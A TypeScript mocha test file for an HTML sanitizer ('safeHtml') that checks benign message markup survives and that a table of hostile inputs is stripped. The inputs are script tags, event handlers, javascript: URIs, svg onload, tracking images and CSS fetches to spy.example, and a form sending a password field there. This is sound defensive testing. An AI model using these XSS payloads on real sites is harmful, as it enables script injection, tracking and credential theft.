import { expect } from "chai";
import { describe, it } from "mocha";
import { safeHtml } from "./safe-html.ts";

describe("the HTML of a message", () => {
  it("C82: keeps what is read", () => {
    const html = `<p>Olá, <b>Ana</b></p><table><tr><td colspan="2">R$ 90,00</td></tr></table>`;
    expect(safeHtml(html)).to.equal(html);
  });

  const hostile = {
    "a script": `<script>alert(1)</script>`,
    "an image from elsewhere": `<img src="https://spy.example/pixel.gif">`,
    "a style that fetches": `<div style="background:url(https://spy.example/x)">x</div>`,
    "a style sheet": `<style>@import "https://spy.example/x.css"</style><link rel=stylesheet href=https://spy.example/y>`,
    "a handler": `<b onclick="alert(1)" onmouseover=alert(1)>x</b>`,
    "a script address": `<a href="javascript:alert(1)">x</a><a href="data:text/html,<script>alert(1)</script>">y</a>`,
    "a frame": `<iframe src="https://spy.example"></iframe><object data="https://spy.example"></object>`,
    "a form": `<form action="https://spy.example"><input name=senha></form>`,
    "a drawing that runs": `<svg onload=alert(1)><use href="https://spy.example/#x"/></svg>`,
    "another base": `<base href="https://spy.example/"><meta http-equiv=refresh content="0;url=https://spy.example">`,
  };
  for (const [what, html] of Object.entries(hostile)) {
    it(`S51: loses ${what}`, () => {
      expect(safeHtml(html)).to.not.match(/spy\.example|alert|script|style|on\w+=|<(?:svg|form)/i);
    });
  }
});
